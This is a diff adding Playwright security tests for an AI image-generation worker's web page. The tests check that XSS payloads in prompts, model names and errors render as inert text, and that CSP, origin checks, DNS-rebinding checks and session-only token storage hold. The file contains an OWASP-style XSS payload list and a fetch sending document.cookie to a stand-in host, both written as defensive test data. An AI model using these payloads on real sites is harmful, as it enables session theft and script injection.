@@ -1,0 +1,268 @@
+"""The page as a target: hostile texts, other origins, and the token."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+pytest.importorskip("aiohttp", reason="aiohttp is not installed")
+pytest.importorskip("playwright", reason="playwright is not installed")
+
+from playwright.sync_api import expect
+
+from tests.page.conftest import ARGUMENTS, CHROMIUM, Watch
+from tests.worker.conftest import Worker
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, BrowserContext, Page, Route
+
+pytestmark = pytest.mark.integration
+OpenPage = Callable[..., "Page"]
+ADMIN, INFER = "admin-token-of-the-test", "infer-token-of-the-test"
+# From OWASP's cheat sheet on filter evasion: elements, attributes, URLs, ends of contexts
+HOSTILE = [
+    "<script>window.attacked = 1</script>",
+    "<img src=x onerror='window.attacked = 1'>",
+    "<svg onload=window.attacked=1>",
+    '"><script>window.attacked=1</script>',
+    "' onfocus='window.attacked=1' autofocus='",
+    "javascript:window.attacked=1//",
+    "</textarea><script>window.attacked=1</script>",
+    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
+    "<details open ontoggle=window.attacked=1>",
+    "${window.attacked = 1} {{window.attacked = 1}} `+(window.attacked=1)+`",
+    "&lt;b&gt; &#x3c;script&#x3e;window.attacked=1&#x3c;/script&#x3e;",
+    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
+    "\u202eegami\u202c {prompt} {n}",
+]
+NAME = "<img src=x onerror=window.attacked=1>\u202e' onclick=window.attacked=1 \""
+
+
+def test_hostile_prompts_are_text(open_page: OpenPage, watch: Watch) -> None:
+    page = open_page()
+    page.evaluate(
+        "prompts => localStorage.setItem('aimage.history',"
+        " JSON.stringify(prompts.map((prompt) => ({prompt, negative: prompt}))))",
+        HOSTILE,
+    )
+    page.get_by_label("Steps").fill("1")
+    page.get_by_label("Prompt", exact=True).fill("\n".join(HOSTILE))
+    page.keyboard.press("Control+Enter")
+    expect(page.locator(".make-state")).to_contain_text("Done in")
+    assert "window.attacked" in (page.locator(".make-picture").get_attribute("alt") or "")
+    page.get_by_role("button", name="Earlier prompts").click()
+    shown = page.locator(".history-take > span:first-child")
+    assert shown.nth(1).text_content() == HOSTILE[0]
+    page.keyboard.press("Escape")
+    page.goto(page.url.replace("#make", "#gallery"))
+    page.get_by_role("button", name=re.compile("^Open")).first.click()
+    expect(page.get_by_role("dialog")).to_contain_text("<svg onload=window.attacked=1>")
+    assert page.evaluate("window.attacked") is None
+
+
+def test_hostile_names_and_errors_of_a_worker_are_text(open_page: OpenPage, watch: Watch) -> None:
+    watch.allow("status of 400")
+    page = open_page()
+
+    def models(route: Route) -> None:
+        facts = {"object": "model", "owned_by": NAME, "capabilities": ["image", "chat"]}
+        data = [{"id": NAME, **facts}, {"id": f"adapter{NAME}", **facts, "adapter": {"name": NAME}}]
+        route.fulfill(json={"object": "list", "data": data})
+
+    def refuse(route: Route) -> None:
+        error = {"message": NAME, "type": NAME, "param": "prompt", "code": NAME}
+        route.fulfill(status=400, json={"error": error})
+
+    page.route("**/v1/models", models)
+    page.route("**/v1/images/generations", refuse)
+    page.reload()
+    expect(page.get_by_label("Model", exact=True)).to_have_value(NAME)
+    page.get_by_label("Prompt", exact=True).fill("a red circle")
+    page.keyboard.press("Control+Enter")
+    expect(page.get_by_role("alert").first).to_have_text(NAME)
+    for part in ("models", "chat", "make"):
+        page.get_by_role("link", name=part.capitalize(), exact=True).click()
+        page.wait_for_timeout(100)
+    assert page.evaluate("window.attacked") is None
+    assert page.locator("img[src='x']").count() == 0
+
+
+def test_the_policy_stops_code_and_requests_that_were_injected(
+    open_page: OpenPage, watch: Watch
+) -> None:
+    watch.allow("Content Security Policy|violates|Refused|other.example")
+    page = open_page()
+    page.evaluate(
+        """() => {
+          const script = document.createElement('script');
+          script.textContent = 'window.attacked = 1';
+          document.body.append(script);
+          const image = document.createElement('img');
+          image.setAttribute('onerror', 'window.attacked = 1');
+          image.src = 'https://other.example/x.png';
+          document.body.append(image);
+        }"""
+    )
+    failed = page.evaluate(
+        "fetch('https://other.example/?' + document.cookie).then(() => 'sent', () => 'refused')"
+    )
+    assert failed == "refused"
+    assert page.evaluate("window.attacked") is None
+    assert not [url for url in watch.asked if "other.example" in url and "blocked" in url]
+
+
+# -- other origins
+
+
+@pytest.fixture(scope="module")
+def reckless(browser: Browser) -> Iterator[Browser]:
+    """Return a browser in which only the worker's own checks protect it."""
+    resolver = "--host-resolver-rules=MAP *.example 127.0.0.1"
+    lenient = (
+        "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults"
+    )
+    kind = browser.browser_type
+    found = kind.launch(executable_path=CHROMIUM, args=[*ARGUMENTS, resolver, lenient])
+    yield found
+    found.close()
+
+
+CALLS = """async (url) => {
+  const tried = async (path, options) => {
+    try {
+      const answer = await fetch(url + path, options);
+      return answer.type === 'opaque' ? 'opaque' : `${answer.status} ${await answer.text()}`;
+    } catch (error) {
+      return 'refused';
+    }
+  };
+  const headers = {'Content-Type': 'application/json'};
+  const json = {method: 'POST', headers, body: '{"model": "shapes"}'};
+  const plain = {method: 'POST', mode: 'no-cors', body: '{"model": "shapes", "keep_alive": 0}'};
+  return {
+    models: await tried('/v1/models'),
+    remove: await tried('/api/delete', {...json, method: 'DELETE'}),
+    simple: await tried('/api/generate', plain),
+    make: await tried('/v1/images/generations', {...json, body: '{"prompt": "a star"}'}),
+  };
+}"""
+
+
+def test_a_page_of_another_origin_cannot_call_the_worker(
+    reckless: Browser, shapes_worker: Worker
+) -> None:
+    page = reckless.new_page()
+    page.route(
+        "http://evil.example/**",
+        lambda route: route.fulfill(body="<h1>Hello</h1>", content_type="text/html"),
+    )
+    page.goto("http://evil.example/")
+    found = page.evaluate(CALLS, shapes_worker.url)
+    assert found.pop("simple") == "opaque"  # sent by the browser, refused by the worker
+    assert set(found.values()) == {"refused"}
+    names = [model["name"] for model in shapes_worker.get("/api/tags")["models"]]
+    assert "shapes:latest" in names
+    refusals = [line for line in shapes_worker.lines if "/api/generate" in line and "403" in line]
+    assert refusals
+    frame = f"<iframe src='{shapes_worker.url}/'></iframe>"
+    page.evaluate("html => document.body.innerHTML = html", frame)
+    page.wait_for_timeout(500)
+    assert page.frames[-1].evaluate("document.querySelector('#page')") is None
+    page.close()
+
+
+def test_a_name_that_leads_to_the_worker_is_refused(
+    reckless: Browser, shapes_worker: Worker
+) -> None:
+    """DNS rebinding: the page of evil.example, whose name now has the worker's address."""
+    port = shapes_worker.url.rpartition(":")[2]
+    page = reckless.new_page()
+    answer = page.goto(f"http://evil.example:{port}/")
+    assert answer is not None
+    assert answer.status == 403
+    assert "not allowed" in answer.text()
+    found = page.evaluate(CALLS, f"http://evil.example:{port}")
+    assert all(text.startswith("403") or text == "opaque" for text in found.values()), found
+    page.close()
+
+
+# -- the token
+
+
+@pytest.fixture(scope="module")
+def guarded(
+    start_worker: Callable[..., Worker], tmp_path_factory: pytest.TempPathFactory
+) -> Worker:
+    tokens = tmp_path_factory.mktemp("tokens") / "tokens"
+    tokens.write_text(f"admin {ADMIN}\ninfer {INFER}\n")
+    tokens.chmod(0o600)
+    return start_worker("--token-file", tokens)
+
+
+def sign_in(page: Page, token: str) -> None:
+    page.get_by_label("Token").fill(token)
+    page.get_by_role("button", name="Sign in").click()
+
+
+def kept(page: Page) -> dict[str, Any]:
+    found = page.evaluate(
+        "[JSON.stringify({...localStorage}), JSON.stringify({...sessionStorage})]"
+    )
+    return {"local": found[0], "tab": found[1]}
+
+
+def test_a_token_is_asked_for_and_kept_for_the_tab_only(
+    open_page: OpenPage, context: BrowserContext, guarded: Worker, watch: Watch
+) -> None:
+    page = open_page(url=guarded.url)
+    expect(page.get_by_text("This worker requires a token.")).to_be_visible()
+    assert page.get_by_label("Token").get_attribute("type") == "password"
+    sign_in(page, "not-a-token-of-this-worker")
+    expect(page.get_by_role("alert")).to_have_text("The worker does not know this token.")
+    sign_in(page, INFER)
+    page.get_by_label("Prompt", exact=True).fill("a red circle")
+    page.get_by_label("Steps").fill("1")
+    page.keyboard.press("Control+Enter")
+    expect(page.locator(".make-state")).to_contain_text("Done in")
+    assert INFER in kept(page)["tab"]
+    assert INFER not in kept(page)["local"]
+    page.reload()
+    expect(page.get_by_label("Prompt", exact=True)).to_have_value("a red circle")
+    other = open_page(url=guarded.url)
+    expect(other.get_by_label("Token")).to_be_visible()
+    page.get_by_role("button", name="Access").click()
+    expect(page.get_by_role("dialog")).to_contain_text("Models cannot be changed")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_label("Token")).to_be_visible()
+    assert INFER not in kept(page)["tab"]
+    assert not [url for url in watch.asked if INFER in url]
+    assert not [cookie for cookie in context.cookies() if INFER in json.dumps(cookie)]
+    assert INFER not in "".join(guarded.lines)
+    assert re.search(r"POST.*?/v1/images/generations", "".join(guarded.lines))
+
+
+def test_a_token_that_is_revoked_leads_to_the_sign_in_field(
+    open_page: OpenPage, guarded: Worker, watch: Watch
+) -> None:
+    watch.allow("status of 401")
+    page = open_page(url=guarded.url)
+    sign_in(page, ADMIN)
+    page.get_by_label("Prompt", exact=True).fill("a red circle")
+    page.evaluate("sessionStorage.setItem('aimage.token', '\"revoked\"')")
+    page.reload()
+    expect(page.get_by_label("Token")).to_be_visible()
+    sign_in(page, ADMIN)
+    expect(page.get_by_label("Prompt", exact=True)).to_have_value("a red circle")
+
+
+def test_files_of_the_page_need_no_token(guarded: Worker, tmp_path: Path) -> None:
+    from tests.worker.conftest import get
+
+    with pytest.raises(Exception, match="401"):
+        get(f"{guarded.url}/v1/models", {})
+    assert get(f"{guarded.url}/v1/worker", {})["scope"] is None
